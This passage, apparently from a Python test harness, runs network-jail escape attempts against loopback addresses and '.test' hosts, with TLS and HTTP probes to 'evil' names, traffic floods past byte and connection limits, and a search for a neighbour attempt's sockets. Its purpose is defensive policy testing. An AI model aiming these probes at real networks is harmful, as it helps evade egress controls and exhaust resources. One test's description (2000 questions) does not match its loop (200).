@attack("wrong-door", "doors by addresses that stand for no name", "an address of the gate stands for one name or for none")
def _():
    out = set()
    for address in ("127.64.0.0", "127.64.255.254", "127.1.2.3", "127.127.255.254", "127.0.0.1"):
        for port, data in ((443, b"".join(records(hello(sni(b"evil-door.test"))))), (80, b"GET /evil HTTP/1.1\r\nHost: evil.stage.test\r\n\r\n")):
            try:
                reply = talk((address, port), data)
            except OSError as e:
                out.add(errno_name(e))
                continue
            refused(reply, "%s:%d" % (address, port))
            out.add("alert" if reply[:1] == b"\x15" else str(status(reply) or "closed"))
    return ", ".join(sorted(out))


# Limits

@attack("byte-budget", "send 16 MB to an allowed host under a limit of 1 MiB, eight times", "the policy's limit on bytes sent", policy="B")
def _():
    opened = 0
    for _ in range(8):
        sock = tunnel(OK)
        if isinstance(sock, int):
            continue
        opened += 1
        with sock:
            try:
                sock.sendall(b"".join(records(hello(sni(OK.encode())))))
                for _ in range(4096):
                    sock.sendall(b"x" * 4096)
            except OSError:
                pass
    return "%d tunnels, cut off" % opened


@attack("connection-budget", "200 connections under a limit of 20", "the policy's limit on connections", policy="C")
def _():
    good = sum(b"bait" in fetch(OK) for _ in range(200))
    if good > 20:
        raise Got("%d were served" % good)
    return "%d served" % good


@attack("question-budget", "2000 questions under a limit of 50", "the policy's limit on questions", policy="D")
def _():
    good = sum(bool(lookup(OK)) for _ in range(200))
    if good > 50:
        raise Got("%d were answered" % good)
    return "%d answered" % good


@attack("no-rules", "the doors of a jail whose policy names nothing", "every name is denied, nothing is dialled", policy="E")
def _():
    out = []
    for address, data in ((PROXY, b"CONNECT ok.stage.test:443 HTTP/1.1\r\n\r\n"), (PROXY, b"GET http://ok.stage.test/evil HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n"),
                          (("127.64.0.1", 443), b"".join(records(hello(sni(OK.encode()))))), (("127.0.0.1", 80), b"GET /evil HTTP/1.1\r\nHost: ok.stage.test\r\n\r\n")):
        try:
            reply = talk(address, data)
            refused(reply, "no rules")
            out.append(str(status(reply) or "closed"))
        except OSError as e:
            out.append(errno_name(e))
    if lookup(OK):
        raise Got("the name has an address")
    return ", ".join(out)


@attack("other-attempt", "what another attempt on this host listens on: ports and abstract sockets", "each attempt has a namespace of its own", policy="E")
def _():
    def meet():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.connect("\0creel-neighbour")
    return each([("its abstract socket", meet)] + connects(["127.0.0.1", "127.64.0.1"], 5555))


def neighbour():
    """Not an attack: the other attempt of other-attempt. Listens, says so, and stays."""
    sock = socket.create_server(("0.0.0.0", 5555))
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind("\0creel-neighbour")
    unix.listen(5)
    print("listening", flush=True)
    time.sleep(120)
    return sock, unix


def run(name, function):
    result = []

    def body():
        try:
            result.append(("blocked", function() or "nothing came of it"))
        except Got as e:
            result.append(("GOT", str(e)))
        except OSError as e:
            result.append(("blocked", errno_name(e)))
        except Exception as e:  # an attack that is broken proves nothing
            result.append(("GOT", "the attack itself failed: %r" % e))
    thread = threading.Thread(target=body, daemon=True)
    thread.start()
    thread.join(180)
    word, text = result[0] if result else ("GOT", "still at it after 180 s")
    text = "".join(c if " " <= c < "\x7f" else "?" for c in text)
    print("= %s %s %s" % (name, word, text), flush=True)


def main():
    known = {row[0]: row for row in table}
    if sys.argv[1:] == ["--list"]:
        for row in table:
            print("\t".join(row[:5]))
    elif sys.argv[1:] == ["--neighbour"]:
        neighbour()
    elif sys.argv[1:] == ["--zone"]:
        for label, address in BAD.items():
            print("%s.bad.test 60 %s" % (label, address))
    else:
        for name in sys.argv[1:]:
            run(name, known[name][5])
        print("= - done -", flush=True)


if __name__ == "__main__":
    main()
